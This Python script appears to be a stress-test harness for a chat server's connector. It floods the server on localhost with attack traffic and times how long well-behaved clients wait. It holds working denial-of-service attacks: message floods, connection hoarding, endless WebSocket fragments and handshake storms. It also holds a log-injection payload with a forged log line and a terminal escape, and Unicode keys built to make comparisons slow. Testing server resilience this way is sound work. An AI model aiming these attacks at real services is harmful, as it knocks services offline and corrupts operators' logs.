# SPDX-License-Identifier: MIT
"""Attacks a connector of the Chat example, and measures how long innocent clients on it wait for their answers.

    python3 attack.py --port 3010 --attack notifies --seconds 5 [--clients 16]

    python3 attack.py --port 3010 --attack crowd --sessions 10000 [--anywhere]    begins sessions that never poll

Prints one line of JSON. The attackers are processes of their own; nothing but Python's standard library is used.
"""
import argparse
import json
import multiprocessing
import os
import socket
import struct
import threading
import time

import socketio

HANDSHAKE = json.dumps({"sys": {"type": "attack", "version": "1"}}).encode()
UPGRADE = (b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")


# ---- what goes over the wire

def package(kind, body=b""):
    return bytes([kind]) + len(body).to_bytes(3, "big") + body


def message(route, body=b"", number=0):
    """A notify, or with a number a request."""
    text = route if isinstance(route, bytes) else route.encode()
    identity = b""
    rest = number
    while rest or (number and not identity):
        digit, rest = rest & 0x7F, rest >> 7
        identity += bytes([digit | (0x80 if rest else 0)])
    return package(4, bytes([0 if number else 2]) + identity + bytes([len(text)]) + text + body)


def frame(payload, opcode=2, final=True):
    """A masked frame; the mask is zero, which leaves the payload as it is."""
    head = bytes([(0x80 if final else 0) | opcode])
    if len(payload) < 126:
        head += bytes([0x80 | len(payload)])
    elif len(payload) < 65536:
        head += b"\xFE" + struct.pack(">H", len(payload))
    else:
        head += b"\xFF" + struct.pack(">Q", len(payload))
    return head + b"\0\0\0\0" + payload


def filled(piece, size=1024 * 1024 - 64):
    """As many pieces, made by a function of their number, as fit."""
    pieces, total, number = [], 0, 1
    while True:
        one = piece(number)
        if total + len(one) > size:
            return b"".join(pieces)
        pieces.append(one)
        total += len(one)
        number += 1


def marks(count):
    """Two names that are equivalent to Unicode and differ as bytes; comparing them as text takes for ever."""
    return "a" + "\u0301\u0316" * count, "a" + "\u0316\u0301" * count


# ---- connections

def dial(port):
    line = socket.create_connection(("127.0.0.1", port), timeout=20)
    line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return line


def upgraded(port, handshake=HANDSHAKE):
    """A WebSocket whose handshake is acknowledged."""
    line = dial(port)
    line.sendall(UPGRADE)
    while b"\r\n\r\n" not in line.recv(4096):
        pass
    line.sendall(frame(package(1, handshake)))
    line.recv(4096)
    line.sendall(frame(package(2)))
    return line


def drained(line):
    """Reads and forgets what the server says, until it says nothing more."""
    def read():
        try:
            while line.recv(1 << 16):
                pass
        except OSError:
            pass
    threading.Thread(target=read, daemon=True).start()
    return line


# ---- attacks: each is given the port and the instant at which to end, and goes on until then

def repeating(make):
    def attack(port, end):
        data = make()
        while time.time() < end:
            try:
                line = drained(upgraded(port))
                line.settimeout(1)
                while time.time() < end:
                    line.sendall(data)
            except OSError:
                time.sleep(0.05)
    return attack


def silence(port, end):
    lines = []
    while time.time() < end:
        try:
            lines.append(dial(port))
        except OSError:
            time.sleep(0.05)
        if len(lines) > 300:
            lines.pop(0).close()
        time.sleep(0.02)


def forgery(port, end):
    line = drained(upgraded(port))
    evil = b"connector.x.y\r\n2026-01-01T00:00:00+0000 critical pomelo: FORGED\x1b[2J"
    while time.time() < end:
        line.sendall(frame(message(evil, b"{}", 7) + message("connector.\nFORGED.z", b"{}", 8)))
        time.sleep(0.01)


def fragments(port, end):
    first = frame(b"\x04", 2, final=False)
    piece = frame(b"\0", 0, final=False) * 9000
    while time.time() < end:
        try:
            line = drained(upgraded(port))
            line.settimeout(1)
            line.sendall(first)
            while time.time() < end:
                line.sendall(piece)
        except OSError:
            time.sleep(0.05)


def slow(port, end):
    """Asks for far more than it reads."""
    name = f"slow{os.getpid()}.{threading.get_ident() % 1000}"
    text = json.dumps({"content": "x" * 8000, "target": "*"}).encode()
    while time.time() < end:
        try:
            line = dial(port)
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            line.sendall(package(1, HANDSHAKE))
            line.recv(1000)
            line.sendall(package(2))
            enter = json.dumps({"username": name[-20:], "rid": name}).encode()
            line.sendall(message("connector.entryHandler.enter", enter, 1))
            line.settimeout(1)
            while time.time() < end:
                line.sendall(message("chat.chatHandler.send", text, 2))
        except OSError:
            time.sleep(0.05)


def handshakes(port, end):
    while time.time() < end:
        try:
            upgraded(port).close()
        except OSError:
            time.sleep(0.01)


def combining(port, end):
    one, other = marks(7000)
    body = json.dumps({one: 1, other: 2}, ensure_ascii=False).encode()
    while time.time() < end:
        try:
            upgraded(port, body).close()
            line = drained(upgraded(port))
            one2, other2 = marks(20000)
            big = json.dumps({one2: 1, other2: 2}, ensure_ascii=False).encode()
            line.sendall(frame(message("connector.entryHandler.enter", big, 3)))
            time.sleep(0.02)
        except OSError:
            time.sleep(0.05)


ATTACKS = {
    "none": None,
    "notifies": repeating(lambda: frame(filled(lambda _: message("a.b.c")))),
    "requests": repeating(lambda: frame(filled(lambda n: message("connector.no.such", b"", n)))),
    "forwarded": repeating(lambda: frame(filled(lambda n: message("chat.no.such", b"", n)))),
    "silence": silence,
    "forgery": forgery,
    "fragments": fragments,
    "slow": slow,
    "handshakes": handshakes,
    "combining": combining,
    **socketio.ATTACKS,
}


def storm(attack, port, end, clients):
    threads = [threading.Thread(target=ATTACKS[attack], args=(port, end), daemon=True) for _ in range(clients)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()


# ---- the innocent

class Innocent:
    """Speaks TCP, enters a room of its own and says something twenty times a second."""

    def __init__(self, port):
        self.line = dial(port)
        self.buffer = b""
        self.number = 1
        self.waits = []
        self.line.sendall(package(1, HANDSHAKE))
        self.expect(lambda kind, body: kind == 1)
        self.line.sendall(package(2))
        self.ask("connector.entryHandler.enter", {"username": f"kim{os.getpid()}", "rid": f"room{os.getpid()}"})
        self.waits = []

    def packages(self):
        while len(self.buffer) >= 4:
            length = int.from_bytes(self.buffer[1:4], "big")
            if len(self.buffer) < 4 + length:
                return
            kind, body = self.buffer[0], self.buffer[4:4 + length]
            self.buffer = self.buffer[4 + length:]
            yield kind, body

    def expect(self, wanted):
        while True:
            for kind, body in self.packages():
                if wanted(kind, body):
                    return
                if kind == 5:
                    raise OSError("kicked")
            data = self.line.recv(1 << 16)
            if not data:
                raise OSError("the connection was closed")
            self.buffer += data

    def ask(self, route, body):
        self.number = self.number % 100 + 1
        answer = bytes([4, self.number])
        begun = time.time()
        self.line.sendall(package(3) + message(route, json.dumps(body).encode(), self.number))
        self.expect(lambda kind, body: kind == 4 and body[:2] == answer)
        self.waits.append(time.time() - begun)

    def live(self, end):
        while time.time() < end or len(self.waits) < 10:
            self.ask("chat.chatHandler.send", {"content": "hello", "target": "*"})
            time.sleep(0.05)


def figures(waits):
    waits = sorted(waits)
    at = lambda part: round(waits[min(len(waits) - 1, int(part * len(waits)))] * 1000, 1)
    return {"answers": len(waits), "median_ms": at(0.5), "p99_ms": at(0.99), "max_ms": at(1)}


def lived(person, end, faults):
    try:
        person.live(end)
    except OSError as error:
        faults.append(f"{type(person).__name__}: {error}")


def measured(port, attack, seconds, clients, processes):
    """Three innocents live through the attack: of TCP, which gives the figures at the top, and of socket.io."""
    end = time.time() + seconds
    people = {"tcp": Innocent(port), "socket": socketio.Client(port, False), "polling": socketio.Client(port, True)}
    share = [clients // processes + (1 if n < clients % processes else 0) for n in range(processes)]
    storms = [multiprocessing.Process(target=storm, args=(attack, port, end, one), daemon=True)
              for one in share if one > 0 and ATTACKS[attack]]
    for one in storms:
        one.start()
    result = {"attack": attack, "clients": clients, "seconds": seconds}
    faults = []
    threads = [threading.Thread(target=lived, args=(one, end - 0.1, faults)) for one in people.values()]
    for one in threads:
        one.start()
    try:
        time.sleep(0.5)
        begun = time.time()
        newcomer = Innocent(port)
        result["newcomer_ms"] = round((time.time() - begun) * 1000, 1)
        begun = time.time()
        poller = socketio.Client(port, True)
        result["newcomer_polling_ms"] = round((time.time() - begun) * 1000, 1)
        people.update(newcomer=newcomer, poller=poller)
    except OSError as error:
        faults.append(f"newcomer: {error}")
    for one in threads:
        one.join()
    result["closed"] = "; ".join(faults) or False
    for one in storms:
        one.join(5)
        one.kill()
    for name in ("tcp", "socket", "polling"):
        if people[name].waits:
            found = figures(people[name].waits)
            result.update(found if name == "tcp" else {f"{name}_{key}": value for key, value in found.items()})
    return result


def main():
    words = argparse.ArgumentParser(description=__doc__)
    words.add_argument("--port", type=int, required=True)
    words.add_argument("--attack", choices=[*ATTACKS, "crowd"], required=True)
    words.add_argument("--seconds", type=float, default=3)
    words.add_argument("--clients", type=int, default=6)
    words.add_argument("--processes", type=int, default=2)
    words.add_argument("--sessions", type=int, default=10_000)
    words.add_argument("--anywhere", action="store_true")
    options = words.parse_args()
    if options.attack == "crowd":
        return print(json.dumps(socketio.crowd(options.port, options.sessions, options.anywhere, options.seconds)))
    print(json.dumps(measured(options.port, options.attack, options.seconds, options.clients, options.processes)))


if __name__ == "__main__":
    main()
